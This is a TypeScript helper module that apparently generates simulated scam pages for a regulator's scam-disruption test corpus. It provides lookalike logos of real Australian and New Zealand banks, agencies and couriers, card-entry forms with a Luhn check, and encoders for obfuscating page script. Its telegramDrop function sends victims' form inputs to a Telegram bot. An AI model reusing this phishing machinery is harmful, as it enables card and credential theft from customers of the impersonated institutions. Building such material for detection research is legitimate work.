import type { Route } from '../../corpus/corpus.js';

/**
 * Shared pieces for the `xd-` pages (an ANZ consumer-regulator scam-disruption desk): page shells,
 * brand marks as inline SVG, and small encoders. Parts hold no pages; every helper is parametrised so
 * the pages that use it still differ.
 */

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export type ShellOpts = { lang?: string; head?: string; css?: string; bodyAttrs?: string; dir?: string };

/** A plain HTML5 document. */
export function shell(title: string, body: string, o: ShellOpts = {}): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en-AU'}"${o.dir ? ` dir="${o.dir}"` : ''}>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${esc(title)}</title>
${o.head ?? ''}
${o.css ? `<style>${o.css}</style>` : ''}
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${body}
</body>
</html>`;
}

/** Base CSS most bank and agency pages share in spirit: system font, a top bar of one colour, a card. */
export function baseCss(bar: string, ink = '#1a1a1a', accent = bar, font = `-apple-system, 'Segoe UI', Roboto, Helvetica, Arial, sans-serif`): string {
  return `*{box-sizing:border-box}body{margin:0;font-family:${font};color:${ink};background:#f4f5f7}
header.top{background:${bar};padding:14px 24px;display:flex;align-items:center;gap:14px}
main{max-width:460px;margin:36px auto;background:#fff;border-radius:6px;box-shadow:0 1px 4px rgba(0,0,0,.12);padding:28px 32px}
label{display:block;font-size:14px;font-weight:600;margin:16px 0 6px}
input[type=text],input[type=password],input[type=tel],input[type=email],input[type=number],select{width:100%;padding:11px 12px;border:1px solid #9aa0a6;border-radius:4px;font-size:16px}
button,.btn{display:inline-block;background:${accent};color:#fff;border:0;border-radius:4px;padding:12px 22px;font-size:16px;font-weight:600;cursor:pointer;text-decoration:none}
.muted{color:#5f6368;font-size:13px}footer{text-align:center;font-size:12px;color:#666;margin:28px 0}
.err{color:#b00020;font-size:14px;display:none}`;
}

/** Brand marks: rough inline SVG shapes in the brands' colours (what kits paste in to avoid hotlinking). */
export const mark = {
  commbank: (h = 40) => `<svg width="${h}" height="${h}" viewBox="0 0 40 40" role="img" aria-label="CommBank"><rect width="40" height="40" fill="#ffcc00"/><path d="M20 4 36 20 20 36 4 20Z" fill="#000"/><path d="M20 10 30 20 20 30 10 20Z" fill="#ffcc00"/></svg>`,
  westpac: (h = 32) => `<svg width="${h * 1.6}" height="${h}" viewBox="0 0 64 40" role="img" aria-label="Westpac"><path d="M2 4h12l6 22 6-22h12l6 22 6-22h12L50 36H38l-6-20-6 20H14Z" fill="#da1710"/></svg>`,
  anz: (h = 34) => `<svg width="${h * 2.4}" height="${h}" viewBox="0 0 96 40" role="img" aria-label="ANZ"><circle cx="14" cy="20" r="12" fill="#fff"/><circle cx="14" cy="20" r="7" fill="#004165"/><text x="32" y="29" font-family="Arial Black,Arial" font-size="24" fill="#fff">ANZ</text></svg>`,
  nab: (h = 36) => `<svg width="${h * 2}" height="${h}" viewBox="0 0 80 40" role="img" aria-label="NAB"><path d="M14 4l3.5 9.5H28l-8.5 6 3.3 10L14 23.6 5.2 29.5l3.3-10L0 13.5h10.5Z" fill="#c20000"/><text x="32" y="28" font-family="Arial" font-weight="700" font-size="22" fill="#000">nab</text></svg>`,
  bendigo: (h = 34) => `<svg width="${h * 3}" height="${h}" viewBox="0 0 120 40" role="img" aria-label="Bendigo Bank"><rect x="0" y="6" width="28" height="28" rx="14" fill="#a6093d"/><path d="M8 20h12M14 13v14" stroke="#fff" stroke-width="3"/><text x="34" y="27" font-family="Georgia,serif" font-size="17" fill="#a6093d">Bendigo Bank</text></svg>`,
  kiwibank: (h = 34) => `<svg width="${h * 3}" height="${h}" viewBox="0 0 120 40" role="img" aria-label="Kiwibank"><ellipse cx="16" cy="22" rx="13" ry="10" fill="#6cc04a"/><path d="M27 20l10-4" stroke="#6cc04a" stroke-width="3"/><text x="42" y="28" font-family="Arial" font-weight="700" font-size="18" fill="#000">kiwibank</text></svg>`,
  asb: (h = 36) => `<svg width="${h * 2}" height="${h}" viewBox="0 0 80 40" role="img" aria-label="ASB"><rect width="80" height="40" fill="#ffd600"/><text x="12" y="29" font-family="Arial Black,Arial" font-size="22" fill="#000">ASB</text></svg>`,
  bnz: (h = 36) => `<svg width="${h * 2}" height="${h}" viewBox="0 0 80 40" role="img" aria-label="BNZ"><path d="M16 6l2.6 7H26l-6 4.4 2.3 7.2L16 20.2l-6.3 4.4L12 17.4 6 13h7.4Z" fill="#fff"/><text x="32" y="28" font-family="Arial" font-weight="700" font-size="20" fill="#fff">BNZ</text></svg>`,
  mygov: (h = 34) => `<svg width="${h * 2.6}" height="${h}" viewBox="0 0 104 40" role="img" aria-label="myGov"><rect width="104" height="40" rx="4" fill="#1a1a1a"/><text x="10" y="27" font-family="Arial" font-size="20" fill="#fff">my<tspan font-weight="700">Gov</tspan></text></svg>`,
  coatOfArms: (h = 44) => `<svg width="${h * 1.3}" height="${h}" viewBox="0 0 52 40" role="img" aria-label="Australian Government"><path d="M26 4 40 10v12c0 8-6 13-14 16C18 35 12 30 12 22V10Z" fill="none" stroke="#222" stroke-width="2.5"/><path d="M19 14h14M19 20h14M19 26h14" stroke="#222" stroke-width="2"/></svg>`,
  nzgovt: (h = 34) => `<svg width="${h * 3.4}" height="${h}" viewBox="0 0 136 40" role="img" aria-label="New Zealand Government"><path d="M6 34c6-14 14-24 26-30" stroke="#fff" stroke-width="3" fill="none"/><text x="38" y="18" font-family="Arial" font-size="11" fill="#fff">Te Kāwanatanga o Aotearoa</text><text x="38" y="32" font-family="Arial" font-size="11" fill="#fff">New Zealand Government</text></svg>`,
  auspost: (h = 40) => `<svg width="${h}" height="${h}" viewBox="0 0 40 40" role="img" aria-label="Australia Post"><circle cx="20" cy="20" r="19" fill="#dc1928"/><path d="M14 31V9h8a6.5 6.5 0 0 1 0 13h-3" stroke="#fff" stroke-width="4" fill="none"/></svg>`,
  startrack: (h = 30) => `<svg width="${h * 4}" height="${h}" viewBox="0 0 160 40" role="img" aria-label="StarTrack"><path d="M4 30 24 10h14L18 30Z" fill="#e2231a"/><text x="44" y="28" font-family="Arial" font-style="italic" font-weight="700" font-size="20" fill="#1d1d1b">StarTrack</text></svg>`,
  nzpost: (h = 36) => `<svg width="${h * 2.6}" height="${h}" viewBox="0 0 104 40" role="img" aria-label="NZ Post"><rect width="104" height="40" fill="#e4002b"/><text x="10" y="27" font-family="Arial" font-weight="700" font-size="19" fill="#fff">NZ Post</text></svg>`,
  aramex: (h = 28) => `<svg width="${h * 4}" height="${h}" viewBox="0 0 160 40" role="img" aria-label="Aramex"><text x="2" y="30" font-family="Arial" font-weight="700" font-size="28" fill="#e3051b">aramex</text></svg>`,
  linkt: (h = 30) => `<svg width="${h * 2.6}" height="${h}" viewBox="0 0 104 40" role="img" aria-label="Linkt"><text x="2" y="30" font-family="Arial" font-weight="700" font-size="28" fill="#6a2c91">linkt</text><circle cx="92" cy="12" r="6" fill="#00b2a9"/></svg>`,
  waka: (h = 32) => `<svg width="${h * 4}" height="${h}" viewBox="0 0 160 40" role="img" aria-label="NZ Transport Agency Waka Kotahi"><path d="M4 32h24L16 8Z" fill="#0b3a5d"/><text x="34" y="18" font-family="Arial" font-size="12" fill="#0b3a5d">NZ Transport Agency</text><text x="34" y="33" font-family="Arial" font-size="12" fill="#0b3a5d">Waka Kotahi</text></svg>`,
  ird: (h = 34) => `<svg width="${h * 3.2}" height="${h}" viewBox="0 0 128 40" role="img" aria-label="Inland Revenue Te Tari Taake"><rect width="40" height="40" fill="#006272"/><text x="6" y="27" font-family="Arial" font-weight="700" font-size="16" fill="#fff">IR</text><text x="46" y="18" font-family="Arial" font-size="11">Inland Revenue</text><text x="46" y="32" font-family="Arial" font-size="11">Te Tari Taake</text></svg>`,
  shield: (h = 28, fill = '#0a6') => `<svg width="${h}" height="${h}" viewBox="0 0 24 24" aria-hidden="true"><path d="M12 2 4 5v6c0 5 3.4 9.7 8 11 4.6-1.3 8-6 8-11V5Z" fill="${fill}"/><path d="m8 12 3 3 5-6" stroke="#fff" stroke-width="2" fill="none"/></svg>`,
  cloudflare: (h = 28) => `<svg width="${h * 1.8}" height="${h}" viewBox="0 0 54 30" aria-hidden="true"><path d="M38 26H8a6 6 0 0 1 .6-12A9 9 0 0 1 26 10a7 7 0 0 1 12 6h1a5 5 0 0 1 0 10Z" fill="#f38020"/></svg>`,
};

/** UTF-8 base64. */
export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
/** Comma-separated char codes, as String.fromCharCode(...) kits use. */
export const charCodes = (s: string): string => Array.from(s, (c) => c.charCodeAt(0)).join(',');
/** \xNN-escaped string body (for "..." literals in inline script). */
export const hexEsc = (s: string): string => Array.from(Buffer.from(s, 'utf8'), (b) => '\\x' + b.toString(16).padStart(2, '0')).join('');
/** XOR with a repeating key, then base64: the "encrypted blob decoded at load" kits carry. */
export const xorB64 = (s: string, key: string): string => Buffer.from(Array.from(Buffer.from(s, 'utf8'), (b, i) => b ^ key.charCodeAt(i % key.length))).toString('base64');
/** Split a string into chunks of n and return them reversed, as JSON (the page joins them back). */
export const reversedChunks = (s: string, n: number): string => {
  const parts: string[] = [];
  for (let i = 0; i < s.length; i += n) parts.push(s.slice(i, i + n));
  return JSON.stringify(parts.reverse());
};

/** The inline decoder a page needs to read an xorB64 blob (named `fn`). */
export const xorDecoder = (fn: string): string =>
  `function ${fn}(d,k){var b=atob(d),o='';for(var i=0;i<b.length;i++)o+=String.fromCharCode(b.charCodeAt(i)^k.charCodeAt(i%k.length));try{return decodeURIComponent(escape(o))}catch(e){return o}}`;

/**
 * A Telegram-bot drop snippet: reads the named inputs, posts a message to the bot, then runs `after`.
 * `how` picks the transport kits use (fetch JSON, form-encoded XHR, or an image beacon on GET).
 */
export function telegramDrop(o: { token: string; chat: string; tag: string; fields: string[]; after: string; how?: 'fetch' | 'xhr' | 'img' }): string {
  const collect = `var m='${o.tag}\\n'+[${o.fields.map((f) => `'${f}: '+((document.getElementsByName('${f}')[0]||{}).value||'')`).join(',')}].join('\\n')+'\\nUA: '+navigator.userAgent;`;
  const api = `'https://api.telegram.org/bot${o.token}/sendMessage'`;
  const send =
    o.how === 'xhr'
      ? `var x=new XMLHttpRequest();x.open('POST',${api},true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.onloadend=function(){${o.after}};x.send('chat_id=${o.chat}&text='+encodeURIComponent(m));`
      : o.how === 'img'
        ? `var i=new Image();i.onload=i.onerror=function(){${o.after}};i.src=${api}+'?chat_id=${o.chat}&text='+encodeURIComponent(m);`
        : `fetch(${api},{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'${o.chat}',text:m,parse_mode:'HTML'})}).finally(function(){${o.after}});`;
  return collect + send;
}

/** Luhn check the card steps of kits run so victims re-type a mistyped number. */
export const luhnJs = `function luhn(n){n=(n||'').replace(/\\D/g,'');var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}return n.length>=13&&s%10===0}`;

/** A standard card form block (the parcel/toll fee kits). Field names are the kit's choice. */
export function cardFields(names: { holder: string; number: string; exp: string; cvv: string }, labels = { holder: 'Name on card', number: 'Card number', exp: 'Expiry (MM/YY)', cvv: 'CVV' }): string {
  return `<label for="${names.holder}">${labels.holder}</label><input type="text" id="${names.holder}" name="${names.holder}" autocomplete="cc-name" required>
<label for="${names.number}">${labels.number}</label><input type="tel" id="${names.number}" name="${names.number}" inputmode="numeric" autocomplete="cc-number" maxlength="19" placeholder="0000 0000 0000 0000" required>
<div style="display:flex;gap:12px"><div style="flex:1"><label for="${names.exp}">${labels.exp}</label><input type="tel" id="${names.exp}" name="${names.exp}" autocomplete="cc-exp" maxlength="5" placeholder="MM/YY" required></div>
<div style="flex:1"><label for="${names.cvv}">${labels.cvv}</label><input type="tel" id="${names.cvv}" name="${names.cvv}" autocomplete="cc-csc" maxlength="4" required></div></div>`;
}

/** A small analytics snippet real sites carry (data layer push; nothing is fetched). */
export const dataLayer = (id: string): string =>
  `<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','${id}',{anonymize_ip:true});</script>`;

/** The footer AU government sites carry (acknowledgement of country). */
export const acknowledgement = (agency: string): string =>
  `<p style="font-size:13px">${esc(agency)} acknowledges the Traditional Custodians of Country throughout Australia and their continuing connection to land, sea and community. We pay our respects to them and their cultures, and to Elders past and present.</p>`;

/** A static JSON route. */
export const json = (body: unknown, status = 200): Route => ({ status, headers: { 'content-type': 'application/json; charset=utf-8' }, body: JSON.stringify(body) });
/** A text route with a content type. */
export const text = (body: string, type: string, extra: Record<string, string> = {}): Route => ({ status: 200, headers: { 'content-type': type, ...extra }, body });
